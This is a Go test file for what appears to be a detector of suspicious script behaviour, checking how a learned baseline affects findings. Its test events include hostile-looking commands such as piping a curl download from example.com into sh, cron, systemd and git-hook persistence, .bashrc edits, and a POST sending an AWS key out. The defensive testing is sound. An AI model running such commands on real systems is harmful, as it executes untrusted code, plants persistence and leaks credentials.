package behaviour

import (
	"strings"
	"testing"
)

func TestTheBaseIsAPrecedentForTheSameDeedOnly(t *testing.T) {
	long := strings.Repeat("x", headOfData)
	for name, tt := range map[string]struct {
		events string
		rule   string // with its severity where the base is no precedent
		always bool   // it is one whatever data the change brings
	}{
		"a command that says all":                {"exec /usr/bin/git · git · config · core.hooksPath · .hooks", rulePersistCommand.ID + sus, true},
		"a download with its address":            {"exec /bin/sh · sh · -c · curl -s http://example.com/x | sh", ruleDownloadRun.ID + dan, true},
		"a download whose address is a variable": {"exec /bin/sh · sh · -c · curl -s http://$host/x | sh", ruleDownloadRun.ID + dan, false},
		"a table of jobs from a pipe":            {"exec /usr/bin/crontab · crontab · -", rulePersistCommand.ID + sus, false},
		"a unit that lies in a file":             {"exec /bin/systemctl · systemctl · enable · app", rulePersistCommand.ID + sus, false},
		"a line in a start file":                 {"write /tmp/.bashrc", "persistence/observed-start-file" + sus, false},
		"a link to a file of the repository":     {"link /tmp/.bashrc · /workspace/bashrc", "persistence/observed-start-file" + sus, true},
		"a link to another file":                 {"link /tmp/.bashrc · /tmp/x", "persistence/observed-start-file" + sus, false},
		"traffic that was cut off":               {"resolve A example.com\nrequest POST http://example.com/x {aws key} <<<" + long, ruleSent.ID + dan, false},
	} {
		t.Run(name, func(t *testing.T) {
			base := Known{}
			base.Learn(runOf(t, Script, tt.events))
			for _, same := range []bool{true, false} {
				r := runOf(t, Script, tt.events)
				r.Before = Before{Known: base, SameData: same}
				got := rulesOf(Findings(r))
				if decides := strings.Contains(got, tt.rule); decides == (same || tt.always) {
					t.Errorf("with the same data %v: %s", same, got)
				}
			}
		})
	}
}
